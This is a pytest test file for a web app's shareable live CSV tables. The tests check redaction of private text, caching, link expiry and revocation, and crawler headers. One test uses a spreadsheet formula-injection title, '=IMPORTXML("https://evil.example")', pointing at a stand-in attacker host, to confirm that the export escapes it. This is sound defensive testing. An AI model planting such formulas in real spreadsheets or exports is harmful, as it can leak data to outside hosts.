"""Live tables: what stands in them and what never does, how often they are computed, and when a link ends."""

import csv
from collections import Counter
from datetime import date, timedelta
from io import StringIO

import pytest
import sqlalchemy as sa
from flask import Flask
from werkzeug.test import TestResponse

from engage import clock
from engage.coalitions.models import Coalition, Membership
from engage.extensions import db
from engage.operations.redaction import service as redaction
from engage.operations.redaction.service import RedactionTarget
from engage.partners.models import Organization
from engage.plan.models import Action, Goal, Plan
from engage.plan.rules import ActionStatus, PlanStatus
from engage.reports.tables import pages, queries, service
from engage.reports.tables.models import LiveCopy, LiveLink, LiveTitle
from engage.reports.tables.rules import HEADS, MOST_LINKS, LiveTable, Title, TitleKind, fingerprint, told
from tests.client import EngageClient
from tests.databases import counted_queries
from tests.factories import (
    make_action,
    make_activity,
    make_coalition,
    make_goal,
    make_measure,
    make_membership,
    make_objective,
    make_organization,
    make_plan,
    make_reading,
)
from tests.meetings.rows import make_meeting
from tests.reports.test_public import person

PAGE = "/c/riverbend/reports/tables"


def make_link(by: Membership | None = None, name: str = "County report") -> str:
    """Makes a link that shows everything there is, and returns the beginning of its tables' addresses."""
    by = by or person()
    link = service.make(by, name, fingerprint(queries.titles_of(by)))
    db.session.commit()
    token = service.token_of(link)
    assert token is not None
    return f"/live/{token}"


def rows(answer: TestResponse) -> list[dict[str, str]]:
    assert answer.status_code == 200, answer.status
    return list(csv.DictReader(StringIO(answer.get_data(as_text=True))))


def later(seconds: int = 61) -> None:
    """Makes everything that was kept and used older, as if this time had passed."""
    for row in db.session.scalars(sa.select(LiveCopy)):
        row.claimed_at -= timedelta(seconds=seconds)
        row.made_at = row.made_at and row.made_at - timedelta(seconds=seconds)
    for link in db.session.scalars(sa.select(LiveLink)):
        link.used_at = link.used_at and link.used_at - timedelta(seconds=seconds)
    db.session.commit()


def a_plan() -> Action:
    """Makes a plan of one goal, objective, measure with readings, and action, with texts that stay inside."""
    plan = make_plan()
    goal = make_goal(plan, title="No one waits for a bed", why="A secret why")
    objective = make_objective(goal, title="Beds for boys", measure="Secret words of a measure")
    measure = make_measure(objective, title="Beds open", unit="secret unit")
    make_reading(measure, 2, date(2026, 3, 1), source="A secret source")
    make_reading(measure, 12, date(2026, 6, 1))
    owner = make_membership(name="Keisha Secret")
    return make_action(
        plan,
        objective=objective,
        number=14,
        title="Write to the county",
        details="Secret details",
        status=ActionStatus.STUCK,
        reason="A secret reason",
        due_on=date(2026, 12, 31),
        owner_id=owner.id,
        organization_id=make_organization(name="Secret partner").id,
    )


# -- what stands in the tables


def test_the_plan_holds_actions_with_goal_objective_status_and_dates(client: EngageClient) -> None:
    a_plan()
    assert rows(client.get(f"{make_link()}/plan.csv")) == [
        {
            "action_number": "14",
            "action": "Write to the county",
            "status": "stuck",
            "start": "",
            "due": "2026-12-31",
            "done": "",
            "goal_number": "1",
            "goal": "No one waits for a bed",
            "objective_number": "1.1",
            "objective": "Beds for boys",
        }
    ]


def test_a_measure_has_a_row_for_each_reading_and_small_counts_stay_empty(client: EngageClient) -> None:
    a_plan()
    found = rows(client.get(f"{make_link()}/measures.csv"))
    assert [(each["date"], each["value"], each["withheld"]) for each in found] == [
        ("2026-03-01", "", "yes"),
        ("2026-06-01", "12.0", "no"),
    ]
    assert {(each["measure"], each["target_value"], each["better"]) for each in found} == {
        ("Beds open", "20.0", "up")
    }


def test_activities_hold_no_small_count_of_people(client: EngageClient) -> None:
    make_activity(
        title="Training", reached=2, place="Secret street 5", about="Secret notes", county="Secret county"
    )
    make_activity(title="Fair", reached=40)
    found = rows(client.get(f"{make_link()}/activities.csv"))
    assert [(each["activity"], each["people_reached"]) for each in found] == [
        ("Training", ""),
        ("Fair", "40"),
    ]
    assert told(0) == 0
    assert told(None) is told(2) is None


def test_counts_have_a_row_for_each_period(client: EngageClient) -> None:
    by, today = person(), clock.today("UTC")
    make_activity(title="Fair", reached=40, happened_on=today, hours=3)
    make_activity(title="Talk", reached=2, happened_on=today, hours=1)
    found = {each["period"]: each for each in rows(client.get(f"{make_link(by)}/counts.csv"))}
    assert found["this_year"]["first_day"] == f"{today.year}-01-01"
    assert found["this_month"]["activities_held"] == "2"
    assert (found["this_month"]["people_reached"], found["this_month"]["hours"]) == ("40", "4.0")
    assert found["last_year"]["activities_held"] == "0"


def test_coverage_counts_organizations_by_sector_and_area_and_names_none(client: EngageClient) -> None:
    organization = make_organization(name="Secret shelter", sector="nonprofit")
    found = rows(client.get(f"{make_link()}/coverage.csv"))
    whole = next(each for each in found if each["sector"] == "nonprofit" and each["area"] == "all")
    assert (whole["state"], whole["organizations_active"], whole["organizations_known"]) == (
        "empty",
        "0",
        "1",
    )
    assert db.session.get_one(Organization, organization.id).name == "Secret shelter"


def test_no_table_holds_a_text_but_titles_and_no_person(client: EngageClient) -> None:
    a_plan()
    by = person()
    make_activity(title="Training", place="Secret street", presenters="Secret speaker", created_by_id=by.id)
    make_meeting(by, title="Secret meeting", starts_at=clock.now() - timedelta(days=1))
    address = make_link(by, name="Secret name of the link")
    for table in LiveTable:
        text = client.get(f"{address}/{table.value}.csv").get_data(as_text=True)
        assert "ecret" not in text
        assert by.name not in text


@pytest.mark.parametrize("table", LiveTable)
def test_the_columns_of_each_table_are_those_that_the_docs_explain(
    client: EngageClient, table: LiveTable
) -> None:
    with open("docs/live-tables.md") as file:
        text = file.read().partition(f"## {table.value}.csv")[2].partition("\n## ")[0]
    explained = [line.split("|")[1].strip(" `") for line in text.splitlines() if line.startswith("| `")]
    assert explained == list(HEADS[table])
    answer = client.get(f"{make_link()}/{table.value}.csv")
    assert next(csv.reader(StringIO(answer.get_data(as_text=True)))) == list(HEADS[table])


def test_a_title_that_begins_like_a_formula_is_text(client: EngageClient) -> None:
    make_action(make_plan(), title='=IMPORTXML("https://evil.example")', number=3)
    (row,) = rows(client.get(f"{make_link()}/plan.csv"))
    assert row["action"] == '\'=IMPORTXML("https://evil.example")'


def test_excel_gets_the_mark_of_utf_8_and_google_sheets_does_not(client: EngageClient) -> None:
    make_action(make_plan(), title="Días de otoño")
    address = make_link()
    plain, excel = client.get(f"{address}/plan.csv").data, client.get(f"{address}/excel/plan.csv").data
    assert excel == b"\xef\xbb\xbf" + plain
    assert "Días de otoño".encode() in plain


# -- titles


def test_a_title_that_came_or_changed_since_stands_as_its_number_until_it_is_let_through(
    client: EngageClient, coordinator: EngageClient
) -> None:
    a_plan()
    address = make_link(coordinator.membership)
    goal = db.session.scalars(sa.select(Goal)).one()
    goal.title = "Help for Ann"
    make_action(_plan(), number=15, title="Ask Bob")
    make_activity(title="Visit to Carl", happened_on=date(2026, 5, 4))
    db.session.commit()
    found = rows(client.get(f"{address}/plan.csv"))
    assert [(each["action"], each["goal"]) for each in found] == [
        ("Write to the county", "Goal 1"),
        ("Action 15", ""),
    ]
    (activity,) = rows(client.get(f"{address}/activities.csv"))
    assert activity["activity"] == f"Activity {activity['activity_number']}"

    page = coordinator.page(PAGE)
    assert all(page.has(words) for words in ("Help for Ann", "Ask Bob", "Visit to Carl", "Action 15"))
    assert not page.has("Write to the county")
    answer = coordinator.send(f"{PAGE}/titles", seen=page.value("seen"))
    assert answer.status == 303
    later()
    found = rows(client.get(f"{address}/plan.csv"))
    assert [(each["action"], each["goal"]) for each in found] == [
        ("Write to the county", "Help for Ann"),
        ("Ask Bob", ""),
    ]
    assert not coordinator.page(PAGE).has("new or changed")


def _plan() -> Plan:
    return db.session.scalars(sa.select(Plan)).one()


def test_nothing_is_let_through_that_was_not_read(client: EngageClient, coordinator: EngageClient) -> None:
    plan = make_plan()
    address = make_link(coordinator.membership)
    make_action(plan, title="Read", number=1)
    seen = coordinator.page(PAGE).value("seen")
    make_action(plan, title="Came meanwhile", number=2)
    page = coordinator.send(f"{PAGE}/titles", seen=seen)
    assert (page.status, page.has("changed while you were reading"), page.has("Came meanwhile")) == (
        409,
        True,
        True,
    )
    assert [each["action"] for each in rows(client.get(f"{address}/plan.csv"))] == ["Action 1", "Action 2"]


def test_a_coordinator_reads_all_titles_before_the_link_exists(coordinator: EngageClient) -> None:
    a_plan()
    make_activity(title="Training")
    page = coordinator.page(f"{PAGE}/new")
    titles = ("No one waits for a bed", "Beds for boys", "Write to the county", "Beds open", "Training")
    assert all(page.has(words) for words in titles)
    assert db.session.scalar(sa.select(sa.func.count(LiveLink.id))) == 0
    db.session.scalars(sa.select(Action)).one().title = "Another title"
    refused = coordinator.send(f"{PAGE}/new", name="The county", seen=page.value("seen"))
    assert (refused.status, refused.value("name"), refused.has("Another title")) == (409, "The county", True)
    made = coordinator.send(f"{PAGE}/new", name="The county", seen=refused.value("seen"))
    shown = coordinator.page(made.location)
    (link,) = db.session.scalars(sa.select(LiveLink))
    address = f"http://127.0.0.1/live/{service.token_of(link)}"
    assert shown.one("#reports-sheets-plan").attributes["value"] == f'=IMPORTDATA("{address}/plan.csv")'
    assert shown.one("#reports-excel-coverage").attributes["value"] == f"{address}/excel/coverage.csv"


def test_a_link_needs_a_name_and_there_are_at_most_ten(coordinator: EngageClient) -> None:
    page = coordinator.send(f"{PAGE}/new", name=" ", seen=coordinator.page(f"{PAGE}/new").value("seen"))
    assert (page.status, page.has("Say whose sheet it is for")) == (422, True)
    for _number in range(MOST_LINKS):
        make_link(coordinator.membership)
    page = coordinator.send(
        f"{PAGE}/new", name="One more", seen=coordinator.page(f"{PAGE}/new").value("seen")
    )
    assert (page.status, page.has("at most 10 links"), page.value("name")) == (422, True, "One more")


def test_a_text_that_was_removed_for_good_is_in_no_copy(client: EngageClient) -> None:
    action, by = a_plan(), person()
    address = make_link(by)
    client.get(f"{address}/plan.csv")
    redaction.redact(by, [RedactionTarget("plan_action", action.id, "title")])
    db.session.commit()
    assert db.session.scalar(sa.select(sa.func.count(LiveCopy.id))) == 0
    (row,) = rows(client.get(f"{address}/plan.csv"))
    assert row["action"] == "Action 14"


def test_the_mark_of_a_list_tells_every_change() -> None:
    one = Title(TitleKind.ACTION, 1, "1", "A")
    lists = [
        [],
        [one],
        [one, one],
        [Title(TitleKind.GOAL, 1, "1", "A")],
        [Title(TitleKind.ACTION, 1, "1", "B")],
    ]
    assert len({fingerprint(each) for each in lists}) == len(lists)


# -- how often


def test_a_hundred_fetches_compute_a_table_once(
    client: EngageClient, monkeypatch: pytest.MonkeyPatch
) -> None:
    a_plan()
    by = person()
    addresses, computed = [make_link(by), make_link(by)], Counter[LiveTable]()
    compute = pages.csv_of

    def counting(coalition: Coalition, table: LiveTable) -> str:
        computed[table] += 1
        return compute(coalition, table)

    monkeypatch.setattr(pages, "csv_of", counting)
    for number in range(100):
        assert client.get(f"{addresses[number % 2]}/plan.csv?again={number}").status_code == 200
    assert computed == {LiveTable.PLAN: 1}
    later()
    client.get(f"{addresses[0]}/excel/plan.csv")
    assert computed == {LiveTable.PLAN: 2}


def test_while_one_request_computes_others_get_the_last_copy_or_come_back(client: EngageClient) -> None:
    a_plan()
    address = make_link()
    coalition = db.session.scalars(sa.select(LiveLink.coalition_id)).one()
    assert service.claim(coalition, LiveTable.PLAN)
    assert not service.claim(coalition, LiveTable.PLAN)
    answer = client.get(f"{address}/plan.csv")
    assert (answer.status_code, answer.headers["Retry-After"], answer.mimetype) == (503, "2", "text/plain")
    later()
    first = client.get(f"{address}/plan.csv").data
    later()
    assert service.claim(coalition, LiveTable.PLAN)
    assert client.get(f"{address}/plan.csv").data == first


def test_an_unchanged_table_is_not_sent_again(client: EngageClient) -> None:
    action = a_plan()
    address = make_link()
    answer = client.get(f"{address}/plan.csv", headers={"Accept-Encoding": "gzip"})
    tag = answer.headers["ETag"]
    again = client.get(f"{address}/plan.csv", headers={"If-None-Match": tag})
    assert (again.status_code, again.data, again.headers["ETag"]) == (304, b"", tag)
    assert client.get(f"{address}/excel/plan.csv", headers={"If-None-Match": tag}).status_code == 200
    db.session.get_one(Action, action.id).status = ActionStatus.UNDER_WAY
    later()
    assert client.get(f"{address}/plan.csv", headers={"If-None-Match": tag}).status_code == 200


def test_a_fetch_of_a_fresh_copy_takes_three_queries_and_writes_nothing(client: EngageClient) -> None:
    address = make_link()
    client.get(f"{address}/plan.csv")
    with counted_queries() as sent:
        client.get(f"{address}/plan.csv")
    assert len(sent) == 3
    assert all(each.startswith("SELECT") for each in sent)


@pytest.mark.parametrize("table", LiveTable)
def test_the_queries_of_a_table_do_not_grow_with_its_rows(app: Flask, table: LiveTable) -> None:
    action, coalition = a_plan(), person().coalition
    db.session.refresh(coalition)
    with counted_queries() as few:
        pages.csv_of(coalition, table)
    plan = _plan()
    for _number in range(3):
        objective = make_objective(make_goal(plan))
        make_reading(make_measure(objective), 4, date(2026, 2, 1))
        make_action(plan, objective=objective)
        make_activity(action_id=action.id)
        make_organization()
    db.session.refresh(coalition)
    with counted_queries() as many:
        pages.csv_of(coalition, table)
    assert len(many) == len(few)


def test_old_copies_go_with_the_days_work(client: EngageClient) -> None:
    client.get(f"{make_link()}/plan.csv")
    assert service.prune(clock.now()) == 0
    assert service.prune(clock.now() + timedelta(minutes=6)) == 1


# -- when a link ends, and who asks


def test_a_revoked_link_opens_nothing_from_the_next_request_on(
    client: EngageClient, coordinator: EngageClient
) -> None:
    address, other = make_link(coordinator.membership), make_link(coordinator.membership, "Another sheet")
    assert client.get(f"{address}/plan.csv").status_code == 200
    first = db.session.scalars(sa.select(LiveLink.id).order_by(LiveLink.id)).first()
    assert coordinator.send(f"{PAGE}/{first}/revoke").location == PAGE
    answer = client.get(f"{address}/plan.csv")
    assert (answer.status_code, answer.mimetype) == (404, "text/plain")
    assert client.get(f"{other}/plan.csv").status_code == 200


def test_with_the_last_link_go_the_titles_and_the_copies(
    client: EngageClient, coordinator: EngageClient
) -> None:
    a_plan()
    client.get(f"{make_link(coordinator.membership)}/plan.csv")
    (link,) = db.session.scalars(sa.select(LiveLink.id))
    coordinator.send(f"{PAGE}/{link}/revoke")
    for model in (LiveLink, LiveTitle, LiveCopy):
        assert db.session.scalar(sa.select(sa.func.count()).select_from(model)) == 0


def test_closing_or_deleting_the_coalition_ends_its_links(client: EngageClient) -> None:
    by = person(make_coalition(slug="elsewhere"))
    address = make_link(by)
    assert client.get(f"{address}/counts.csv").status_code == 200
    db.session.get_one(Coalition, by.coalition_id).closed_at = clock.now()
    assert client.get(f"{address}/counts.csv").status_code == 404
    db.session.execute(sa.delete(Coalition).where(Coalition.id == by.coalition_id))
    db.session.commit()
    assert client.get(f"{address}/counts.csv").status_code == 404


def test_the_host_can_close_all_links(app: Flask, client: EngageClient, coordinator: EngageClient) -> None:
    address = make_link(coordinator.membership)
    app.config["LIVE_TABLES"] = False
    try:
        assert client.get(f"{address}/plan.csv").status_code == 404
        page = coordinator.page(PAGE)
        assert page.has("ENGAGE_LIVE_TABLES")
        assert not page.has("Make a link")
        seen = {"name": "The county", "seen": fingerprint(queries.titles_of(coordinator.membership))}
        assert coordinator.send(f"{PAGE}/new", **seen).status == 409
    finally:
        app.config["LIVE_TABLES"] = True


def test_a_link_asks_once_a_year_whether_it_is_kept(client: EngageClient, coordinator: EngageClient) -> None:
    address = make_link(coordinator.membership)
    (link,) = db.session.scalars(sa.select(LiveLink))
    assert not coordinator.page("/c/riverbend/").has("live tables")
    today = clock.today("UTC")
    for ends, status in ((today + timedelta(days=29), 200), (today - timedelta(days=2), 404)):
        link = db.session.get_one(LiveLink, link.id)
        link.ends_on = ends
        service._note_asking(coordinator.membership)
        db.session.commit()
        assert client.get(f"{address}/plan.csv").status_code == status
        assert coordinator.page("/c/riverbend/").has("A link to live tables ends soon or has ended")
        assert coordinator.page(PAGE).has("Keep the link for another year")
    coordinator.send(f"{PAGE}/{link.id}/keep")
    assert client.get(f"{address}/plan.csv").status_code == 200
    assert not coordinator.page(PAGE).has("Keep the link")
    assert not coordinator.page("/c/riverbend/").has("live tables")


def test_every_coordinator_sees_each_link_with_its_last_use(
    client: EngageClient, coordinator: EngageClient
) -> None:
    address = make_link(person(), "The funder’s sheet")
    assert coordinator.page(PAGE).has("Not used yet")
    client.get(f"{address}/plan.csv")
    page = coordinator.page(PAGE)
    assert page.has("The funder’s sheet")
    assert page.has("Last used on")


def test_another_coalitions_link_is_neither_shown_nor_revoked(coordinator: EngageClient) -> None:
    make_link(person(make_coalition(slug="elsewhere")), "Of others")
    (link,) = db.session.scalars(sa.select(LiveLink.id))
    assert not coordinator.page(PAGE).has("Of others")
    assert coordinator.get(f"{PAGE}/{link}").status_code == 404
    assert coordinator.send(f"{PAGE}/{link}/revoke").status == 404


@pytest.mark.parametrize("tail", ["plan.csv", "excel/plan.csv"])
def test_a_crawler_is_told_to_list_nothing_and_gets_no_cookie(
    client: EngageClient, coordinator: EngageClient, tail: str
) -> None:
    address = make_link(coordinator.membership)
    for asks in (client, coordinator):
        for answer in (asks.get(f"{address}/{tail}"), asks.get(f"/live/nothing/{tail}")):
            assert answer.headers["X-Robots-Tag"] == "noindex, nofollow, noarchive"
            assert answer.headers["Referrer-Policy"] == "no-referrer"
            assert "Set-Cookie" not in answer.headers
    assert client.get(f"{address}/people.csv").status_code == 404


def test_the_database_alone_does_not_give_a_link_or_a_title_away(client: EngageClient) -> None:
    a_plan()
    address = make_link()
    kept = repr(db.session.execute(sa.select(*LiveLink.__table__.c)).all())
    kept += repr(db.session.execute(sa.select(*LiveTitle.__table__.c)).all())
    assert address.rpartition("/")[2] not in kept
    assert "Write to the county" not in kept


def test_without_a_current_plan_its_tables_have_only_their_heads(client: EngageClient) -> None:
    make_action(make_plan(status=PlanStatus.DRAFT), title="Not adopted")
    address = make_link()
    assert rows(client.get(f"{address}/plan.csv")) == rows(client.get(f"{address}/measures.csv")) == []
